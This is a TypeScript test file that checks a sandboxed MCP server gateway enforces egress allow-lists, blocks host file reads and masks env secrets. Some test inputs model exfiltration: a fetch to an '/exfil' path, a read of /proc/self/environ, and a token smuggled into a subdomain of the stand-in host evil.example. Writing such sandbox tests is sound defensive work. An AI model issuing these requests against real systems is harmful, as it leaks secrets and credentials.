// An upstream MCP server launched in the sandbox: it reaches allowed hosts through the egress proxy,
// cannot read host files, and a connection to a host it may not reach kills it and ends the session.
import { randomBytes } from "node:crypto";
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it, vi } from "vitest";
import type { Warden } from "../../../src/index.js";
import { BubblewrapRunner } from "../../../src/sandbox/index.js";
import { openWarden, tempDir } from "../../helpers.js";
import { cmdlinesHolding, localServer } from "../../sandbox/fixtures.js";
import { connectInMemory, gatewayFor, records, textOf } from "./helpers.js";

const root = new URL("../../../", import.meta.url).pathname;
const FETCHER = `${root}test/adapters/mcp/fixtures/fetch-server.mjs`;

/** A client of a gateway fronting the fetcher fixture in the sandbox, with `env` configured for it. */
async function sandboxedFetcher(warden: Warden, env: Record<string, string>) {
  const gateway = await gatewayFor(warden, {
    servers: [
      {
        name: "fetcher",
        command: [process.execPath, FETCHER],
        env,
        cwd: null,
        url: null,
        headers: {},
        sandbox: { readOnly: [root.replace(/\/$/, "")] },
      },
    ],
  });
  return connectInMemory(gateway);
}

describe.skipIf(!BubblewrapRunner.available())("a sandboxed upstream MCP server", () => {
  it("reaches only allowed hosts, sees no host files, and is killed with its session on a violation", async () => {
    const upstream = await localServer();
    const secretFile = join(tempDir(), "host-secret.txt");
    writeFileSync(secretFile, "host secret");
    const { warden } = await openWarden({
      default: "allow",
      egress: { allow: [`localhost:${upstream.port}`] },
    });
    const gateway = await gatewayFor(warden, {
      servers: [
        {
          name: "fetcher",
          command: [process.execPath, FETCHER],
          env: {},
          cwd: null,
          url: null,
          headers: {},
          sandbox: { readOnly: [root.replace(/\/$/, "")] },
        },
      ],
    });
    const client = await connectInMemory(gateway);
    const ok = await client.callTool({
      name: "fetch_url",
      arguments: { url: `http://localhost:${upstream.port}/hello` },
    });
    expect(textOf(ok)).toBe("ok /hello");
    const file = await client.callTool({ name: "read_file", arguments: { path: secretFile } });
    expect(textOf(file)).toContain("failed: ENOENT");

    const bad = await client
      .callTool({ name: "fetch_url", arguments: { url: `http://127.0.0.1:${upstream.port}/exfil` } })
      .catch((err: unknown) => err);
    expect(bad).toBeDefined();
    expect(upstream.seen.map((s) => s.url)).toEqual(["/hello"]);
    await vi.waitFor(async () => {
      const [violation] = await records(warden, "sandbox.violation");
      expect(violation?.data).toMatchObject({ host: "127.0.0.1", reason: "ip_literal", tool: "mcp:fetcher" });
      const [end] = await records(warden, "session.end");
      expect(end).toBeDefined();
    });
  });

  it("gets its configured env without the values on any command line", async () => {
    const token = `tok-${randomBytes(16).toString("hex")}`;
    const { warden } = await openWarden({ default: "allow" });
    const client = await sandboxedFetcher(warden, { UPSTREAM_TOKEN: token });
    const environ = await client.callTool({ name: "read_file", arguments: { path: "/proc/self/environ" } });
    expect(textOf(environ).split("\0")).toContain(`UPSTREAM_TOKEN=${token}`);
    expect(cmdlinesHolding(token)).toEqual([]);
  });

  it("masks its own configured env values in a refused host name (the record, the session's end), in any letter case", async () => {
    const token = `Tok${randomBytes(12).toString("hex")}`;
    const { warden } = await openWarden({ default: "allow", egress: { allow: ["localhost:1"] } });
    const client = await sandboxedFetcher(warden, { UPSTREAM_TOKEN: token });
    await client
      .callTool({ name: "fetch_url", arguments: { url: `http://${token}.evil.example/` } })
      .catch(() => undefined);
    await vi.waitFor(async () => {
      const [violation] = await records(warden, "sandbox.violation");
      expect(violation?.data).toMatchObject({ host: "[env:UPSTREAM_TOKEN].evil.example" });
      const [end] = await records(warden, "session.end");
      expect(end?.data).toMatchObject({ reason: expect.stringContaining("[env:UPSTREAM_TOKEN]") });
    });
  });
});
